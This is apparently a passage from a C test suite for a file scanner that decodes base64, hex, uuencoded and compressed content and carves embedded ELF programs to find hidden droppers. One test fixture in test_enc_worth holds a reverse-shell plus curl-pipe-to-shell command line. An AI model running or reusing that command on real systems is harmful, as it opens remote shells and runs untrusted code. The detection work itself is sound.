    CHECK(r && pc_b64_decode(r, len, out) == sizeof data && memcmp(out, data, sizeof data) == 0);
    CHECK(pc_b64_next(&it, &len) == NULL); /* "QUJD": too short */
    text[3] = 0;                           /* a NUL in the head: no text */
    CHECK(!pc_b64_wants(text, t));
    memcpy(text,
           "\x7f"
           "ELF",
           4);
    CHECK(pc_b64_wants(text, t)); /* an ELF file is searched too (a dropper's string constant) */
    CHECK(!pc_b64_wants((const unsigned char *)"short", 5));
    /* strings a language joins: a short first one, b'' and + between,
     * over lines; one run, decoded without the joins */
    size_t j = (size_t)snprintf((char *)text, sizeof text, "BLOB = (\"");
    size_t piece[] = {8, 60, 60, 60, 60, 60, 60, 32}, at = 0;
    char enc[420];
    for (size_t i = 0, e = 0; i < sizeof data; i += 3) {
        unsigned v = (unsigned)data[i] << 16 | (unsigned)data[i + 1] << 8 | data[i + 2];
        for (int k = 3; k >= 0; k--)
            enc[e++] = al[(v >> (6 * k)) & 63];
        enc[e] = 0;
    }
    static const char *const joins[] = {
        "\"\n        b\"", "\" + \"", "\"\n    \"", "\" \\\n \"", "\"\"", "'  '", "\"\n+\""};
    for (size_t i = 0; i < sizeof piece / sizeof *piece; i++) {
        j += (size_t)snprintf((char *)text + j, sizeof text - j, "%.*s%s", (int)piece[i], enc + at,
                              i + 1 < sizeof piece / sizeof *piece ? joins[i % 7] : "\")\n");
        at += piece[i];
    }
    CHECK(at == 400);
    /* hex (one line, or lines then a heredoc's end word) and \xHH escapes */
    char hx[900], esc[1300];
    size_t hl = 0, el = 0;
    for (size_t i = 0; i < 120; i++) {
        hl +=
            (size_t)snprintf(hx + hl, sizeof hx - hl, "%02x%s", data[i], i % 30 == 29 ? "\n" : "");
        el += (size_t)snprintf(esc + el, sizeof esc - el, "\\x%02X", data[i]);
    }
    size_t hlen = hl;
    CHECK(pc_enc_of((const unsigned char *)hx, &hlen) == PC_ENC_HEX && hlen == hl);
    CHECK(pc_enc_decode(PC_ENC_HEX, (const unsigned char *)hx, hlen, out) == 120 &&
          memcmp(out, data, 120) == 0);
    hl += (size_t)snprintf(hx + hl, sizeof hx - hl, "EOF");
    hlen = hl;
    CHECK(pc_enc_of((const unsigned char *)hx, &hlen) == PC_ENC_HEX && hlen == hl - 3);
    size_t elen = el;
    CHECK(pc_enc_of((const unsigned char *)esc, &elen) == PC_ENC_ESCAPED && elen == el);
    CHECK(pc_enc_decode(PC_ENC_ESCAPED, (const unsigned char *)esc, elen, out) == 120 &&
          memcmp(out, data, 120) == 0);
    CHECK_STR(pc_enc_name(PC_ENC_ESCAPED), "escaped");
    pc_b64_begin(&it, text, j);
    r = pc_b64_next(&it, &len);
    CHECK(r == text + 9);
    CHECK(r && pc_b64_decode(r, len, out) == sizeof data && memcmp(out, data, sizeof data) == 0);
}

/* A run whose first line starts after other bytes of its line (<<EOF, a
 * script's last word): read as it is, then from its second line; an
 * indented block is one run; a run that starts its line, or a string
 * literal, has one reading. */
static void test_b64_second(void)
{
    unsigned char data[240], out[400];
    char text[2000];
    for (size_t i = 0; i < sizeof data; i++)
        data[i] = (unsigned char)(i * 11 + 5);
    static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char enc[400];
    size_t el = 0;
    for (size_t i = 0; i < sizeof data; i += 3) {
        unsigned v = (unsigned)data[i] << 16 | (unsigned)data[i + 1] << 8 | data[i + 2];
        for (int k = 3; k >= 0; k--)
            enc[el++] = al[(v >> (6 * k)) & 63];
    }
    static const char *const heads[] = {"base64 -d <<EOF\n", "exit $res\n", "x = '", "",
                                        "    return b64decode('''\n        "};
    static const char *const seps[] = {"\n", "\n", "\\\n", "\r\n", "\n        "};
    static const size_t readings[] = {2, 2, 1, 1, 1};
    for (size_t h = 0; h < sizeof heads / sizeof *heads; h++) {
        size_t t = (size_t)snprintf(text, sizeof text, "%s", heads[h]);
        for (size_t i = 0; i < el; i += 76)
            t += (size_t)snprintf(text + t, sizeof text - t, "%.*s%s",
                                  (int)(el - i < 76 ? el - i : 76), enc + i,
                                  i + 76 < el ? seps[h] : "\nEOF\n");
        pc_b64_it it;
        size_t len = 0, n = 0, good = 0;
        const unsigned char *r;
        pc_b64_begin(&it, (const unsigned char *)text, t);
        while ((r = pc_b64_next(&it, &len)) != NULL) {
            n++;
            size_t dl = pc_b64_decode(r, len, out);
            good += dl >= sizeof data && memcmp(out, data, sizeof data) == 0;
        }
        CHECK(n == readings[h]);
        CHECK(good == 1);
    }
}

/* uuencoded bodies: as uuencode writes them (CRLF too), with shar's "X"
 * before every line, after text; a line whose count says more than it
 * holds gives only what it holds; a "begin" line inside a line, a body
 * under PC_B64_MIN bytes, a binary file: none. */
static void test_uu(void)
{
    unsigned char data[200], out[400];
    char text[1600];
    for (size_t i = 0; i < sizeof data; i++)
        data[i] = (unsigned char)(i * 13 + 1);
    for (int variant = 0; variant < 3; variant++) {
        const char *pre = variant == 1 ? "X" : "", *eol = variant == 2 ? "\r\n" : "\n";
        size_t t = (size_t)snprintf(text, sizeof text,
                                    "#!/bin/sh\nsed 's/^X//' <<'E' | uudecode\n"
                                    "begin 755 agent%s",
                                    eol);
        for (size_t i = 0; i < sizeof data; i += 45) {
            size_t k = sizeof data - i < 45 ? sizeof data - i : 45;
            t += (size_t)snprintf(text + t, sizeof text - t, "%s%c", pre, (char)(' ' + k));
            for (size_t j = 0; j < k; j += 3) {
                unsigned v = (unsigned)data[i + j] << 16 |
                             (unsigned)(j + 1 < k ? data[i + j + 1] : 0) << 8 |
                             (j + 2 < k ? data[i + j + 2] : 0);
                for (int b = 3; b >= 0; b--) {
                    unsigned c = (v >> (6 * b)) & 63;
                    text[t++] = (char)(c ? ' ' + c : '`');
                }
            }
            t += (size_t)snprintf(text + t, sizeof text - t, "%s", eol);
        }
        t += (size_t)snprintf(text + t, sizeof text - t, "%s`%s%send%sE\n", pre, eol, pre, eol);
        pc_uu_it it;
        size_t len = 0, prefix = 9;
        pc_uu_begin(&it, (const unsigned char *)text, t);
        const unsigned char *r = pc_uu_next(&it, &len, &prefix);
        CHECK(r && prefix == (variant == 1));
        CHECK(r && pc_uu_decode(r, len, prefix, out) == sizeof data &&
              memcmp(out, data, sizeof data) == 0);
        CHECK(pc_uu_next(&it, &len, &prefix) == NULL);
        CHECK(pc_uu_wants((const unsigned char *)text, t));
    }
    /* counts of 63 on lines of two characters: three bytes for four */
    size_t t = (size_t)snprintf(text, sizeof text, "begin 644 x\n");
    while (t < 1000)
        t += (size_t)snprintf(text + t, sizeof text - t, "_AB\n");
    pc_uu_it it;
    size_t len = 0, prefix = 0;
    pc_uu_begin(&it, (const unsigned char *)text, t);
    const unsigned char *r = pc_uu_next(&it, &len, &prefix);
    CHECK(r && pc_uu_decode(r, len, prefix, out) <= len / 4 * 3 + 3);
    CHECK(!pc_uu_wants((const unsigned char *)"say begin 644 x\nM86)C\n", 22));
    CHECK(!pc_uu_wants((const unsigned char *)"begin 644 x\n&86)C9&5F\n`\nend\n", 29));
    memcpy(text + 20, "\0", 1);
    CHECK(!pc_uu_wants((const unsigned char *)text, t));
}

/* Where a stream ends, pushed a few bytes at a time with junk after it
 * (streamfind.h): the bytes it took are the stream's, for each codec; a
 * false start on chance bytes ends at once. */
static void test_streamfind(void)
{
    unsigned char data[3000], z[4096];
    for (size_t i = 0; i < sizeof data; i++)
        data[i] = (unsigned char)("netcat "[i % 7] + (i / 700));
    pc_sfind *f = pc_sfind_new();
    for (int codec = 0; codec < 5; codec++) {
        size_t zl = sizeof z;
        if (codec == 0) {
            z_stream zs = {0};
            CHECK(deflateInit2(&zs, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) == Z_OK);
            zs.next_in = data;
            zs.avail_in = sizeof data;
            zs.next_out = z;
            zs.avail_out = sizeof z;
            CHECK(deflate(&zs, Z_FINISH) == Z_STREAM_END);
            zl = zs.total_out;
            deflateEnd(&zs);
        } else if (codec == 1) {
            zl = 0;
            CHECK(lzma_easy_buffer_encode(6, LZMA_CHECK_CRC64, NULL, data, sizeof data, z, &zl,
                                          sizeof z) == LZMA_OK);
        } else if (codec == 2) {
            zl = ZSTD_compress(z, sizeof z, data, sizeof data, 3);
            CHECK(!ZSTD_isError(zl));
        } else if (codec == 3) {
            unsigned int bl = sizeof z;
            CHECK(BZ2_bzBuffToBuffCompress((char *)z, &bl, (char *)data, sizeof data, 9, 0, 0) ==
                  BZ_OK);
            zl = bl;
        } else {
            zl = LZ4F_compressFrame(z, sizeof z, data, sizeof data, NULL);
            CHECK(!LZ4F_isError(zl));
        }
        CHECK(zl + 64 < sizeof z);
        memset(z + zl, 'J', 64); /* what follows the stream */
        CHECK(pc_sfind_start(f, z, zl + 64) == 1);
        size_t took = 0, at = 0;
        int ended = 0;
        while (!ended && at < zl + 64) {
            size_t k = zl + 64 - at < 7 ? zl + 64 - at : 7;
            size_t t = pc_sfind_push(f, z + at, k, &ended);
            CHECK(t <= k && (ended || t == k));
            took += t;
            at += k;
        }
        CHECK(ended && took == zl && pc_sfind_out(f) == sizeof data);
    }
    /* chance bytes after a gzip magic: a false start */
    unsigned char junk[256] = "\x1f\x8b\x08\x00";
    for (size_t i = 4; i < sizeof junk; i++)
        junk[i] = (unsigned char)(i * 37 + 11);
    int ended = 0;
    CHECK(pc_sfind_start(f, junk, sizeof junk) == 1);
    CHECK(pc_sfind_push(f, junk, sizeof junk, &ended) <= sizeof junk && ended);
    CHECK(pc_sfind_start(f, (const unsigned char *)"plain text, no stream", 21) == 0);
    pc_sfind_free(f);
}

/* zlib inside other bytes (carve.h): a stream counts by what it decodes
 * to first (a program, a script, an archive), its 2-byte header being
 * everywhere by chance; each of the four headers zlib writes is found by
 * one search; read as "(at byte N) > (zlib)"; also through streamfind */
static size_t zlib_of(const void *src, size_t n, int level, unsigned char *out, size_t cap)
{
    uLongf zl = cap;
    return compress2(out, &zl, src, n, level) == Z_OK ? zl : 0;
}

static void test_zlib_carve(void)
{
    static unsigned char prog[4096], text[4096], z[8192], buf[16384];
    memset(prog, 0, sizeof prog);
    memcpy(prog,
           "\x7f"
           "ELF\x02\x01\x01",
           7);
    prog[16] = 2, prog[18] = 62, prog[20] = 1, prog[52] = 64, prog[54] = 56, prog[56] = 1;
    prog[32] = 64; /* e_phoff */
    memcpy(prog + 200, "#!/bin/sh\nNETCAT-PAYLOAD\n", 25);
    for (size_t i = 0; i < sizeof text; i++)
        text[i] = (unsigned char)("plain text of no program "[i % 25]);
    static const int levels[] = {1, 6, 9, 2}; /* 78 01, 78 9c, 78 da, 78 5e */
    static const unsigned char second[] = {0x01, 0x9c, 0xda, 0x5e};
    for (int l = 0; l < 4; l++) {
        size_t zl = zlib_of(prog, sizeof prog, levels[l], z, sizeof z);
        CHECK(zl > 2 && z[0] == 0x78 && z[1] == second[l]);
        CHECK(pc_carve_zlib(z, zl) == 1);
        CHECK(pc_carve_stream(z, zl) == 1);
        CHECK(pc_carve_zlib(z, 20) == 1); /* (cut short, the decoder going: not known) */
        /* after 1000 chance bytes with no 0x78 in them */
        memset(buf, 0x41, 1000);
        memcpy(buf + 1000, z, zl);
        CHECK(pc_carve_find(buf, 1000 + zl, 1, PC_CARVE_ZLIB) == 1000);
        CHECK(pc_carve_find(buf, 1000 + zl, 1, PC_CARVE_ZLIB + 1) == 1000 + zl); /* (one search) */
        int stream = 0;
        CHECK(pc_carve_next(buf, 1000 + zl, 1000 + zl, &stream) == 1000 && stream == 1);
        seen s = {0};
        inspect(buf, 1000 + zl, 1 << 20, 0, 0, &s);
        CHECK(s.n >= 1);
        CHECK_STR(s.names[0], "(at byte 1000) > (zlib)");
        CHECK(s.sizes[0] == sizeof prog);
    }
    /* what is no program, script or archive is not opened */
    size_t tl = zlib_of(text, sizeof text, 9, z, sizeof z);
    CHECK(pc_carve_zlib(z, tl) == 0);
    memset(buf, 0x41, 1000);
    memcpy(buf + 1000, z, tl);
    seen t = {0};
    inspect(buf, 1000 + tl, 1 << 20, 0, 0, &t);
    CHECK(t.n == 0);
    /* a header with chance bytes after it: no stream */
    unsigned char junk[64] = {0x78, 0x9c, 0xff, 0xff, 0xff};
    CHECK(pc_carve_zlib(junk, sizeof junk) == 0);
    CHECK(pc_carve_zlib((const unsigned char *)"x\x9c", 2) == 0); /* (too short to be one) */
    /* a file read in blocks: streamfind follows a zlib stream to its end */
    size_t zl = zlib_of(prog, sizeof prog, 6, z, sizeof z);
    memset(z + zl, 'J', 64);
    pc_sfind *f = pc_sfind_new();
    CHECK(pc_sfind_start(f, z, zl + 64) == 1);
    int ended = 0;
    CHECK(pc_sfind_push(f, z, zl + 64, &ended) == zl && ended && pc_sfind_out(f) == sizeof prog);
    pc_sfind_free(f);
}

/* base64 in an ELF file held whole (a compiled dropper's string
 * constant): read from each of its first four letters, since the letters
 * of strings stored before it join the run (Go stores them with nothing
 * between); what is not an ELF file and not text is not searched */
static void test_b64_in_elf(void)
{
    static unsigned char prog[600], buf[4096];
    memset(prog, 0, sizeof prog);
    memcpy(prog,
           "\x7f"
           "ELF\x02\x01\x01",
           7);
    memcpy(prog + 100, "NETCAT-PAYLOAD", 14);
    static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char b64[1024];
    size_t bl = 0;
    for (size_t i = 0; i < sizeof prog; i += 3) { /* (600: no padding) */
        unsigned v = (unsigned)prog[i] << 16 | (unsigned)prog[i + 1] << 8 | prog[i + 2];
        for (int k = 3; k >= 0; k--)
            b64[bl++] = tab[(v >> (6 * k)) & 63];
    }
    for (size_t pre = 0; pre < 4; pre++) {
        memset(buf, 0, sizeof buf);
        memcpy(buf,
               "\x7f"
               "ELF\x02\x01\x01",
               7);                      /* the dropper's own header */
        memcpy(buf + 1000, "xyz", pre); /* letters of a string before it */
        memcpy(buf + 1000 + pre, b64, bl);
        seen s = {0};
        inspect(buf, sizeof buf, 1 << 20, 0, 0, &s);
        int found = 0;
        for (size_t i = 0; i < s.n; i++)
            found |= strcmp(s.names[i], "(base64)") == 0 && s.sizes[i] == sizeof prog;
        CHECK(found);
        /* a run of the program's own letters, decoding to nothing worth
         * reading, is no member (pc_enc_worth) */
        memset(buf + 2000, 0, 1000);
        for (size_t i = 0; i < 200; i++)
            buf[2000 + i] = (unsigned char)tab[(i * 7 + pre) % 64];
        seen j = {0};
        inspect(buf, sizeof buf, 1 << 20, 0, 0, &j);
        CHECK(j.n == s.n);
        /* bytes that are no ELF file and no text: not searched */
        buf[0] = 0;
        seen t = {0};
        inspect(buf, sizeof buf, 1 << 20, 0, 0, &t);
        CHECK(t.n == 0);
    }
}

/* what a run found in a program decodes to is read when it is worth it */
static void test_enc_worth(void)
{
    unsigned char junk[300], text[300], prog[300], z[600];
    for (size_t i = 0; i < sizeof junk; i++)
        junk[i] = (unsigned char)(i * 131 + 7);
    memset(text, 0, sizeof text);
    snprintf((char *)text, sizeof text, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; %s",
             "curl http://example.invalid/x | sh");
    memset(prog, 0, sizeof prog);
    memcpy(prog,
           "\x7f"
           "ELF\x02\x01\x01",
           7);
    CHECK(!pc_enc_worth(junk, sizeof junk));
    CHECK(pc_enc_worth(text, strlen((char *)text)));
    CHECK(pc_enc_worth(prog, sizeof prog));
    memcpy(junk + 100, prog, 64); /* a program after other bytes */
    prog[16] = 2, prog[18] = 62, prog[52] = 64, prog[54] = 56, prog[56] = 1, prog[32] = 64;
    memcpy(junk + 100, prog, 64);
    CHECK(pc_enc_worth(junk, sizeof junk));
    uLongf zl = sizeof z;
    CHECK(compress2(z, &zl, prog, sizeof prog, 9) == Z_OK);
    CHECK(pc_enc_worth(z, zl)); /* (zlib of a program: decoded in turn) */
    CHECK(pc_enc_shifts(PC_ENC_BASE64) == 4 && pc_enc_shifts(PC_ENC_HEX) == 2 &&
          pc_enc_shifts(PC_ENC_ESCAPED) == 1);
    CHECK(pc_enc_skip((const unsigned char *)"ab\ncd", 5, 3, PC_ENC_BASE64) == 4);
}

static void test_sniff(void)
{
    CHECK(pc_nest_wants((const unsigned char *)"#!/bin/sh\n", 10)); /* an archive may follow */
    CHECK(!pc_nest_wants((const unsigned char *)"\x7f"
                                                "ELF\2\1\1",
                         7));
    CHECK(pc_unwrap_sniff((const unsigned char *)"BZh9", 4) == PC_WRAP_NONE); /* no block magic */
    CHECK(pc_members_sniff((const unsigned char *)"!<arch>\n", 8) == PC_ARC_AR);
    unsigned char blk[512] = "name";
    CHECK(pc_members_sniff(blk, sizeof blk) == PC_ARC_NONE); /* no valid checksum */
}

/* xz -9 (a 64 MiB dictionary: 65 MiB to decode) inside xz -9, three
 * deep, read (195 MiB of PC_NEST_MEMPOOL); four deep, the innermost gets
 * what the others leave (61 MiB): a bound met, not damage. Cut to its
 * headers, the same stream holds no data: damage. */
static void test_memory(void)
{
    static const char text[] = "#!/bin/sh\nNETCAT-PAYLOAD\n";
    size_t cap = 1 << 16, len[5] = {sizeof text - 1, 0, 0, 0, 0};
    unsigned char *x[5] = {(unsigned char *)strdup(text), malloc(cap), malloc(cap), malloc(cap),
                           malloc(cap)};
    for (int i = 1; i < 5; i++)
        CHECK(lzma_easy_buffer_encode(9, LZMA_CHECK_CRC64, NULL, x[i - 1], len[i - 1], x[i],
                                      &len[i], cap) == LZMA_OK);
    seen a = {0}, c = {0};
    pc_err e = {{0}};
    CHECK(inspect_rc(x[3], len[3], 1 << 20, 0, 0, 0, &a, &e) == 0 && a.n == 3);
    CHECK(inspect_rc(x[4], len[4], 1 << 20, 0, 0, 0, &c, &e) == -1);
    CHECK(c.n == 3 && strstr(e.msg, "(xz) > (xz) > (xz): its compressed data needs more memory"));
    /* the innermost cut to its stream header and a block header's start */
    seen h = {0};
    len[1] = 24;
    for (int i = 2; i < 5; i++) {
        len[i] = 0;
        CHECK(lzma_easy_buffer_encode(9, LZMA_CHECK_CRC64, NULL, x[i - 1], len[i - 1], x[i],
                                      &len[i], cap) == LZMA_OK);
    }
    CHECK(inspect_rc(x[4], len[4], 1 << 20, 0, 0, 0, &h, &e) == 0 && h.n == 3);
    for (int i = 0; i < 5; i++)
        free(x[i]);
}

/* A zip after a program (or a script with no archive line): read by its
 * directory, also with a comment after its end record; a file whose last
 * bytes hold no end record is not a zip. */
static void test_zip_tail(void)
{
    size_t zl;
    unsigned char *z = make(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, two, 2, &zl);
    static const char *const lead[] = {"\x7f"
                                       "ELF\2\1\1",
                                       "#!/usr/bin/python3\nprint(1)\n"};
    for (int i = 0; i < 2; i++) {
        size_t ll = strlen(lead[i]) + 4096, n = ll + zl + 7;
        unsigned char *f = calloc(1, n);
        memcpy(f, lead[i], strlen(lead[i]));
        memcpy(f + ll, z, zl);
        seen s = {0};
        CHECK(pc_zipdir_ends(f, ll + zl));
        inspect(f, ll + zl, 1 << 20, 0, 0, &s);
        CHECK(s.n == 2 && strcmp(s.names[0], "bin/nc") == 0 && s.sizes[0] == strlen(two[1]));
        /* a comment after the end record (its length in the record) */
        f[ll + zl - 2] = 7;
        memcpy(f + ll + zl, "comment", 7);
        seen c = {0};
        inspect(f, n, 1 << 20, 0, 0, &c);
        CHECK(c.n == 2);
        /* no end record in the last bytes */
        seen x = {0};
        CHECK(!pc_zipdir_ends(f, ll + zl / 2));
        inspect(f, ll + zl / 2, 1 << 20, 0, 0, &x);
        CHECK(x.n == 0);
        free(f);
    }
    free(z);
}

/* An ELF header (64-bit little-endian, or 32-bit big-endian) of type DYN
 * for machine m, its program headers at phoff, sections at shoff. */
static void elf_head(unsigned char *b, int c64, unsigned m, uint64_t phoff, unsigned phnum,
                     uint64_t shoff, unsigned shnum)
{
    memset(b, 0, 64);
    memcpy(b,
           "\x7f"
           "ELF",
           4);
    b[4] = c64 ? 2 : 1;
    b[5] = c64 ? 1 : 2;
    b[6] = 1;
    if (c64) {
        b[16] = 3, b[18] = (unsigned char)m, b[19] = (unsigned char)(m >> 8), b[20] = 1;
        for (int i = 0; i < 8; i++) {
            b[32 + i] = (unsigned char)(phoff >> (8 * i));
            b[40 + i] = (unsigned char)(shoff >> (8 * i));
        }
        b[52] = 64, b[54] = 56, b[56] = (unsigned char)phnum, b[57] = (unsigned char)(phnum >> 8);
        b[58] = 64, b[60] = (unsigned char)shnum;
    } else {
        b[17] = 3, b[18] = (unsigned char)(m >> 8), b[19] = (unsigned char)m, b[23] = 1;
        for (int i = 0; i < 4; i++) {
            b[31 - i] = (unsigned char)(phoff >> (8 * i));
            b[35 - i] = (unsigned char)(shoff >> (8 * i));
        }
        b[41] = 52, b[43] = 32, b[45] = (unsigned char)phnum, b[47] = 40,
        b[49] = (unsigned char)shnum;
    }
}

/* A 64-bit little-endian program header's file range. */
static void ph64(unsigned char *h, uint64_t off, uint64_t filesz)
{
    memset(h, 0, 56);
    h[0] = 1;
    for (int i = 0; i < 8; i++) {
        h[8 + i] = (unsigned char)(off >> (8 * i));
        h[32 + i] = (unsigned char)(filesz >> (8 * i));
    }
}

/* carve.c: which programs a file read in blocks keeps (pc_elf_cpu), and
 * how far each one goes (pc_elf_extent): its program headers' file
 * ranges and its section headers, known once its program headers are at
 * hand. */
static void test_elf_extent(void)
{
    static unsigned char b[8192];
    uint64_t end = 0;
    elf_head(b, 1, 62, 64, 2, 6000, 10);
    ph64(b + 64, 0, 4000);
    ph64(b + 120, 4096, 1500);
    CHECK(pc_elf_cpu(b, sizeof b) == 1);
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == 6000 + 10 * 64);
    elf_head(b, 1, 62, 64, 2, 0, 0); /* no section headers: the segments' end */
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == 4096 + 1500);
    ph64(b + 120, 4096, UINT64_MAX - 100); /* (a range that does not fit) */
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == UINT64_MAX);
    elf_head(b, 1, 62, 5000, 3, 0, 0); /* the table beyond what is at hand */
    CHECK(pc_elf_extent(b, 4096, &end) == 0 && end == 5000 + 3 * 56);
    ph64(b + 5000, 0, 7000);
    ph64(b + 5056, 0, 100);
    ph64(b + 5112, 0, 100);
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == 7000);
    elf_head(b, 1, 62, 64, 0, 0, 0); /* none: the kernel refuses it */
    CHECK(pc_elf_extent(b, sizeof b, &end) == -1);
    elf_head(b, 1, 62, 64, 1171, 0, 0); /* over 64 KiB of them: refused too */
    CHECK(pc_elf_extent(b, sizeof b, &end) == -1);
    elf_head(b, 1, 62, 64, 1170, 0, 0);
    CHECK(pc_elf_extent(b, sizeof b, &end) == 0 && end == 64 + 1170 * 56);
    elf_head(b, 0, 8, 52, 1, 3000, 5); /* 32-bit big-endian MIPS */
    memset(b + 52, 0, 32);
    b[52 + 7] = 0x10, b[52 + 19] = 0x20; /* p_offset 0x10, p_filesz 0x20 */
    CHECK(pc_elf_cpu(b, 64) == 1);
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == 3000 + 5 * 40);
    /* processors only: x86-64, AArch64, RISC-V, s390x; not CUDA's, AMDGPU's
     * or BPF's objects, nor a header cut short, nor a relocatable object */
    unsigned yes[] = {62, 183, 243, 22, 3, 40}, no[] = {190, 224, 247, 0, 1000};
    for (size_t i = 0; i < sizeof yes / sizeof *yes; i++) {
        elf_head(b, 1, yes[i], 64, 1, 0, 0);
        CHECK(pc_elf_cpu(b, 64) == 1);
        CHECK(pc_elf_cpu(b, 63) == 0);
    }
    for (size_t i = 0; i < sizeof no / sizeof *no; i++) {
        elf_head(b, 1, no[i], 64, 1, 0, 0);
        CHECK(pc_elf_cpu(b, 64) == 0);
    }
    elf_head(b, 1, 62, 64, 1, 0, 0);
    b[16] = 1; /* REL */
    CHECK(pc_elf_cpu(b, 64) == 0 && pc_elf_extent(b, 64, &end) == -1);
    /* the kernel reads no class, byte order or version byte, e_version or
     * e_ehsize: a 64-bit little-endian header that says 32 bits, big
     * endian, version 0, header size 0 still loads, and is read as such */
    elf_head(b, 1, 62, 64, 2, 6000, 10);
    ph64(b + 64, 0, 4000);
    ph64(b + 120, 4096, 1500);
    b[4] = 1, b[5] = 2, b[6] = 0, b[20] = 0, b[52] = 0;
    CHECK(pc_elf_cpu(b, sizeof b) == 1);
    CHECK(pc_elf_extent(b, sizeof b, &end) == 1 && end == 6000 + 10 * 64);
    static unsigned char junk[200];
    memset(junk, 'x', sizeof junk);
    memcpy(junk + 100, b, 64);
    CHECK(pc_carve_elf(junk, sizeof junk, 1) == 100);
    b[54] = 55; /* but a program header size of no layout: none */
    CHECK(pc_elf_cpu(b, sizeof b) == 0);
    memcpy(junk + 100, b, 64);
    CHECK(pc_carve_elf(junk, sizeof junk, 1) == sizeof junk);
}

/* Bytes held whole (heldbytes.h): in memory up to the bound, past it in a
 * file with no name that gives back every byte, in order; with no
 * directory to make one in, adding past the bound fails (never drops). */
static void test_held(void)
{
    unsigned char piece[1000];
    pc_held h;
    pc_held_init(&h, 2500);
    int ok = 1;
    for (int i = 0; i < 7; i++) {
        memset(piece, 'a' + i, sizeof piece);
        ok &= pc_held_add(&h, piece, sizeof piece) == 0;
        if (i == 1)
            CHECK(h.fd < 0 && h.len == 2000); /* (within the bound: memory) */
    }
    CHECK(ok && h.fd >= 0 && h.len == 7000);
    const unsigned char *p = pc_held_bytes(&h);
    CHECK(p != NULL);
    for (int i = 0; p && i < 7; i++)
        CHECK(p[i * 1000] == 'a' + i && p[i * 1000 + 999] == 'a' + i);
    CHECK(pc_held_add(&h, piece, 1) == -1); /* (mapped: complete) */
    pc_held_free(&h);
    CHECK(h.fd == -1 && h.len == 0 && !h.mem);
    char *old = getenv("TMPDIR") ? strdup(getenv("TMPDIR")) : NULL;
    setenv("TMPDIR", "/nonexistent/held", 1);
    pc_held_init(&h, 10);
    CHECK(pc_held_add(&h, piece, 10) == 0 && pc_held_add(&h, piece, 1) == -1);
    pc_held_free(&h);
    if (old)
        setenv("TMPDIR", old, 1);
    else
        unsetenv("TMPDIR");
    free(old);
}

int main(void)
{
    test_held();
    test_sniff();
    test_elf_extent();
    test_formats();
    test_codecs();
    test_bounds();
    test_lzip();
    test_b64();
    test_b64_second();
    test_uu();
    test_streamfind();
    test_zlib_carve();
    test_b64_in_elf();
    test_enc_worth();
    test_depth();
    test_stream();
    test_stub();
    test_rpm();
    test_compress();
    test_memory();
    test_zip_tail();
    TEST_MAIN_END();
}
